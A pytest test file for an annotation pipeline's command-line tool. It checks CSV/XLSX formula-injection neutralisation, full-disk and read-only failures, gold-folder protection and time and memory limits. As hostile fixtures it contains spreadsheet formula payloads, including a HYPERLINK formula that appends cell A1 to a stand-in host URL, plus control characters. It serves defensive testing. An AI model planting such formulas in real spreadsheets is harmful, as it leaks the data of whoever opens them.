"""Hostile reports through the real CLI: spreadsheets, full disks, read-only folders, huge gold.

- A statement, a file name or a gold value that starts a formula (``=HYPERLINK``,
  ``@SUM``, ``+``, ``-``) is text in ``discrepancies.xlsx`` and carries the OWASP
  apostrophe in the CSV; control characters (ESC, ``\\x01``) do not break the workbook.
- A full disk or a read-only folder is one message naming the file and the reason;
  what was there before is intact and no temporary file is left.
- ``reconcile -o GOLD`` is refused; a gold table of millions of rows meets the run's
  time and memory limits.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import ANNOTATED, REPO
from pipeline.spreadsheet import FORMULA_START, restore_cell

# Sentences that begin a formula, a name that does, and control characters.
HOSTILE_STATEMENT = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Подробнее") 24 марта 2012 года в Алматы задержана '
    "Бахыт\x1b Туменова.\x01\n"
    "@SUM(1+1) Её оштрафовали на 80900 тенге.\n"
    "+7 701 000 00 00 — телефон, по которому звонили полицейские.\n"
    "-2+3 Канат Ибрагимов задержан 25 марта.\n"
)
EVIL_PERSON = '=HYPERLINK("http://example.invalid","Бахыт")'


def cli(*args, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline.cli", *map(str, args)], cwd=REPO,
                          capture_output=True, text=True, timeout=600, **kwargs)


def assert_one_message(result: subprocess.CompletedProcess, *fragments: str) -> None:
    assert result.returncode in (1, 2), result.stdout + result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, (fragment, result.stderr)


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory) -> Path:
    """The real run over a statement named and written to attack a spreadsheet."""
    root = tmp_path_factory.mktemp("formula")
    (root / "in").mkdir()
    (root / "in" / "=cmd.txt").write_text(HOSTILE_STATEMENT, encoding="utf-8")
    result = cli("run", root / "in", "-o", root / "out", "--quiet")
    assert result.returncode == 0, result.stderr
    return root / "out"


@pytest.fixture(scope="module")
def hostile_report(hostile_out, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("formula_report")
    text = (hostile_out / "texts" / "=cmd.txt").read_text(encoding="utf-8")
    gold = root / "gold"
    gold.mkdir()
    record = {"doc_id": "=cmd", "text": text, "mentions": [],
              "events": [{"type": "protest", "persons": [EVIL_PERSON], "place": "@Алматы"}]}
    (gold / "g.json").write_text(json.dumps(record, ensure_ascii=False), encoding="utf-8")
    result = cli("reconcile", hostile_out, gold, "-o", root / "report")
    assert result.returncode == 0, result.stderr
    return root / "report"


def test_csv_report_cells_never_start_a_formula(hostile_report):
    with open(hostile_report / "discrepancies.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [value for row in rows for value in row.values() if value]
    assert cells, "the report has discrepancies to show"
    for cell in cells:
        core = cell.lstrip("'")
        if cell[:1] in FORMULA_START:
            assert core.lstrip("+-").replace(".", "").isdigit(), f"a live formula: {cell!r}"
    doc_ids = {row["doc_id"] for row in rows}
    assert doc_ids == {"'=cmd"}
    # the apostrophe is the only change: the original text comes back
    assert any(restore_cell(row["gold"]) == f"persons: {EVIL_PERSON}" or EVIL_PERSON in restore_cell(row["gold"])
               for row in rows if row["gold"])
    sentences = {restore_cell(row["sentence"]) for row in rows if row["sentence"]}
    assert any(s.startswith("=HYPERLINK(") for s in sentences)


def test_xlsx_report_holds_text_not_formulas(hostile_report):
    book = load_workbook(hostile_report / "discrepancies.xlsx")  # a control character would not load
    sheet = book.active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"], "cells stored as formulas"
    values = [c.value for c in cells]
    assert "=cmd" in values
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK(") and "␛" in v for v in values), \
        "the sentence is there, ESC shown as its picture"
    with zipfile.ZipFile(hostile_report / "discrepancies.xlsx") as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml


def test_a_gold_event_table_marks_formulas_and_reads_back_the_original(tmp_path):
    from pipeline.gold.event_table import read_event_table, write_event_table
    from pipeline.gold.records import AnnotatedDocument, EventAnnotation

    hostile = ["=1+2", "@SUM(A1)", "+7 701", "-cmd", "'=already marked", "'plain", "\tTab"]
    events = tuple(EventAnnotation("fine", None, None, trigger, {"place": trigger}) for trigger in hostile)
    path = write_event_table([AnnotatedDocument("=doc", None, (), events)], tmp_path / "events.csv")
    with open(path, encoding="utf-8", newline="") as f:
        cells = [value for row in csv.reader(f) for value in row]
    assert not [c for c in cells if c[:1] in FORMULA_START]
    (back,) = read_event_table(path)
    assert back.doc_id == "=doc"
    assert sorted(e.trigger for e in back.events) == sorted(t.strip() for t in hostile)
    assert sorted(e.values["place"] for e in back.events) == sorted(t.strip() for t in hostile)


def test_reconcile_refuses_to_write_into_the_gold_folder(sample_text_out, tmp_path):
    gold = tmp_path / "gold"
    shutil.copytree(ANNOTATED, gold)
    before = sorted(p.name for p in gold.iterdir())
    result = cli("reconcile", sample_text_out, gold, "-o", gold)
    assert_one_message(result, str(gold), "gold folder")
    assert sorted(p.name for p in gold.iterdir()) == before
    one_file = sorted(gold.glob("*.json"))[0]
    assert_one_message(cli("reconcile", sample_text_out, one_file, "-o", gold), "gold folder")
    # a report beside the gold, or below it, reconciles again and again
    for report in (tmp_path / "report", gold / "report"):
        assert cli("reconcile", sample_text_out, gold, "-o", report).returncode == 0
        assert cli("reconcile", sample_text_out, gold, "-o", report).returncode == 0


# ---------------------------------------------------------------- limits on huge gold


def big_xlsx(path: Path, rows: int) -> Path:
    """An event table of ``rows`` rows, written as raw sheet XML (openpyxl would take minutes)."""
    ns = "http://schemas.openxmlformats.org"
    rel = f"{ns}/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{ns}/package/2006/'
                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
                   'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                   '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship '
                   f'Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{rel}"><sheets>'
                   '<sheet name="events" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{ns}/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')

        def row(*cells: str) -> str:
            return "<row>" + "".join(f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in cells) + "</row>"

        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(f'<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>'.encode())
            f.write(row("doc_id", "type", "persons").encode())
            block = row("000_6fb061e0297f36b6", "detention", "Бахыт Туменова").encode() * 10_000
            for _ in range(rows // 10_000):
                f.write(block)
            f.write(b"</sheetData></worksheet>")
    return path


def test_a_three_million_row_gold_table_meets_the_time_limit(sample_text_out, tmp_path):
    gold = big_xlsx(tmp_path / "events.xlsx", 3_000_000)
    started = time.monotonic()
    result = cli("reconcile", sample_text_out, gold, "-o", tmp_path / "report", "--timeout", "3")
    assert_one_message(result, "events.xlsx", "timed out after 3 s", "--timeout")
    assert time.monotonic() - started < 150  # the limit stopped it: reading it whole takes many minutes
    assert not (tmp_path / "report").exists()


def test_a_gold_table_too_large_for_memory_meets_the_memory_limit(sample_text_out, tmp_path):
    gold = tmp_path / "events.csv"
    with open(gold, "w", encoding="utf-8") as f:
        f.write("doc_id,type,persons\n" + "000_6fb061e0297f36b6,detention,Бахыт Туменова\n" * 2_000_000)
    result = cli("reconcile", sample_text_out, gold, "-o", tmp_path / "report", "--max-memory", "700")
    assert_one_message(result, "events.csv", "out of memory (limit 700 MB)", "--max-memory")
    assert not (tmp_path / "report").exists()


# ---------------------------------------------------------------- full disk, read-only folder


def _can_mount() -> str | None:
    if not shutil.which("unshare"):
        return "unshare (util-linux) is not installed"
    probe = subprocess.run(["unshare", "--mount", "--map-root-user", "sh", "-c",
                            "mount -t tmpfs -o size=64k tmpfs /mnt 2>/dev/null || "
                            "mount -t tmpfs -o size=64k tmpfs \"$TMPDIR\""],
                           capture_output=True, text=True, env={**os.environ, "TMPDIR": "/tmp"})
    return None if probe.returncode == 0 else f"cannot mount a small tmpfs in a user namespace: {probe.stderr}"


NO_MOUNT = _can_mount()

# Inside a mount namespace: a tiny tmpfs at MNT (full after FILL_KB of filler, or
# remounted read-only), then each command; prints one JSON line per command.
IN_NAMESPACE = r"""
import json, os, subprocess, sys
mnt, size_kb, mode, commands = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4])
subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kb}k", "tmpfs", mnt], check=True)
results = []
first = commands.pop(0)  # made while there is room: what must survive
done = subprocess.run(first, capture_output=True, text=True)
assert done.returncode == 0, done.stderr
before = {os.path.relpath(os.path.join(d, f), mnt): open(os.path.join(d, f), "rb").read()
          for d, _, fs in os.walk(mnt) for f in fs}
if mode == "full":
    try:
        with open(os.path.join(mnt, "filler"), "wb", buffering=0) as f:
            while True:
                f.write(b"x" * 4096)
    except OSError:
        pass
else:
    subprocess.run(["mount", "-o", "remount,ro", mnt], check=True)
for command in commands:
    done = subprocess.run(command, capture_output=True, text=True)
    results.append({"rc": done.returncode, "stderr": done.stderr, "stdout": done.stdout})
after = {os.path.relpath(os.path.join(d, f), mnt): open(os.path.join(d, f), "rb").read()
         for d, _, fs in os.walk(mnt) for f in fs if f != "filler"}
print(json.dumps({"results": results, "kept": before == after,
                  "names": sorted(after)}, ensure_ascii=False))
"""


def in_small_filesystem(tmp_path: Path, mode: str, commands: list[list[str]], size_kb: int = 2048) -> dict:
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    script = tmp_path / "in_namespace.py"
    script.write_text(IN_NAMESPACE, encoding="utf-8")
    done = subprocess.run(["unshare", "--mount", "--map-root-user", sys.executable, str(script), str(mnt),
                           str(size_kb), mode, json.dumps(commands)],
                          cwd=REPO, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.splitlines()[-1]) | {"mnt": str(mnt)}


def cli_args(*args) -> list[str]:
    return [sys.executable, "-m", "pipeline.cli", *map(str, args)]


@pytest.mark.skipif(NO_MOUNT is not None, reason=str(NO_MOUNT))
@pytest.mark.parametrize("mode, reason", [("full", "No space left on device"), ("readonly", "Read-only file system")])
def test_a_full_or_read_only_disk_is_one_message_and_loses_nothing(sample_text_out, tmp_path, mode, reason):
    mnt = tmp_path / "mnt"
    gold = tmp_path / "gold"
    shutil.copytree(ANNOTATED, gold)
    (tmp_path / "brat").mkdir()
    subprocess.run(cli_args("export", sample_text_out, "--format", "brat", "-o", tmp_path / "brat"), check=True,
                   cwd=REPO, capture_output=True)
    commands = [
        cli_args("reconcile", sample_text_out, gold, "-o", mnt / "report"),  # the report that must survive
        cli_args("reconcile", sample_text_out, gold, "-o", mnt / "report"),
        cli_args("reconcile", sample_text_out, gold, "-o", mnt / "new_report"),
        cli_args("import", tmp_path / "brat", "--format", "brat", "-o", mnt / "gold"),
        cli_args("export", sample_text_out, "--format", "brat", "-o", mnt / "brat"),
        cli_args("export", sample_text_out, "--format", "labelstudio", "-o", mnt / "ls"),
        cli_args("review", sample_text_out, "-o", mnt / "review"),
    ]
    found = in_small_filesystem(tmp_path, mode, [list(map(str, c)) for c in commands])
    for command, result in zip(commands[1:], found["results"]):
        said = result["stderr"]
        assert result["rc"] in (1, 2), (command, result)
        assert "Traceback" not in said, said
        assert reason in said and str(mnt) in said, (command, said)
        assert len(said.strip().splitlines()) == 1, said
    assert found["kept"], "the report written before is intact"
    assert not [n for n in found["names"] if n.endswith(".tmp")], found["names"]
